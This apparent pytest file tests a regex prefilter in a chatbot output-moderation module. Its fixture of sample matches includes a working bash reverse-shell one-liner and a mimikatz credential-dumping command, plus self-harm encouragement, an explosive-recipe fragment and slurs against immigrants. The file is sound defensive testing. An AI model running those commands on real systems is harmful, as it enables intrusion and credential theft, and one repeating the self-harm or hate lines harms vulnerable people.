"""Required substrings of a pattern: the filter that lets output moderation skip most windows."""

from __future__ import annotations

import random
import re

import pytest

from parley.safety.anchors import required_substrings
from parley.safety.output import _CATEGORY_RULES, RuleModerator


def anchors(src: str, flags: int = 0) -> frozenset[str] | None:
    return required_substrings(re.compile(src, flags))


def test_a_literal_run_is_required() -> None:
    assert anchors(r"\bhow to build\b") == {"how to build"}


def test_the_longest_requirement_of_a_sequence_wins() -> None:
    assert anchors(r"ab[0-9]+(?:cdef|ghij)x") == {"cdef", "ghij"}


def test_optional_parts_are_not_required() -> None:
    assert anchors(r"x(?:rarely present)?y") in ({"x"}, {"y"})
    assert anchors(r"a(?:bcdef)*g") in ({"a"}, {"g"})


def test_a_repeat_of_at_least_one_requires_its_body() -> None:
    assert anchors(r"[a-z](?:needle)+[a-z]") == {"needle"}


def test_a_branch_needs_every_alternative_to_require_something() -> None:
    assert anchors(r"(?:alpha|beta|gamma)") == {"alpha", "beta", "gamma"}
    assert anchors(r"(?:alpha|\d+)") is None
    assert anchors(r"(?:alpha|)") is None


def test_nothing_is_claimed_under_ignorecase() -> None:
    assert anchors(r"needle", re.IGNORECASE) is None
    assert anchors(r"(?i:needle)") is None
    assert anchors(r"(?i:needle) haystack") == {" haystack"}


def test_every_rule_has_anchors() -> None:
    # A rule without them runs on every window: still correct, but the filter would be lost unnoticed.
    for _category, rule, src in _CATEGORY_RULES:
        assert required_substrings(re.compile(src, re.DOTALL)), rule


def _unfiltered(moderator: RuleModerator) -> RuleModerator:
    plain = RuleModerator()
    plain._rules = tuple((c, r, p, ()) for c, r, p, _a in moderator._rules)
    return plain


# One text each rule matches, in the folded form the rules see.
MATCHES = {
    "self_harm.method": "here are the easiest way to kill yourself",
    "self_harm.lethal_dose": "the lethal dose for an adult is about 10 g",
    "self_harm.encouragement": "you should just kill yourself",
    "weapons.build_instructions": "here's how to make a pipe bomb",
    "weapons.explosive_recipe": "take ammonium nitrate and mix it with fuel, then add shrapnel",
    "weapons.nerve_agent_synthesis": "the synthesis of sarin needs",
    "malware.reverse_shell": "run bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "malware.credential_dumping": "mimikatz sekurlsa::logonpasswords",
    "malware.ransomware": "encrypts all the victim's files and asks for bitcoin",
    "malware.av_evasion": "disable defender so the payload runs",
    "hate.dehumanizing": "immigrants are vermin",
    "hate.violence_against_group": "exterminate all the refugees",
}


def test_each_rule_still_fires_with_the_filter() -> None:
    moderator = RuleModerator()
    assert {r for _c, r, _s in _CATEGORY_RULES} == set(MATCHES)
    for rule, text in MATCHES.items():
        assert rule in {f.rule for f in moderator.moderate(text)}, rule


@pytest.mark.parametrize("seed", range(3))
def test_the_filter_changes_no_decision(seed: int) -> None:
    # Windows cut from a mix of harmful phrases and filler, at random offsets and lengths.
    rng = random.Random(seed)
    filler = ("the model answers with care and cites its sources; people ask how to cook rice, "
              "what a fuse does, which files to encrypt with a password, and why rats live in cities. ")
    pieces = list(MATCHES.values()) + [filler] * 12
    moderator = RuleModerator()
    plain = _unfiltered(moderator)
    for _ in range(400):
        text = "".join(rng.choice(pieces) for _ in range(6))
        start = rng.randrange(len(text))
        window = text[start:start + rng.randrange(40, 600)]
        assert moderator.moderate(window) == plain.moderate(window), window
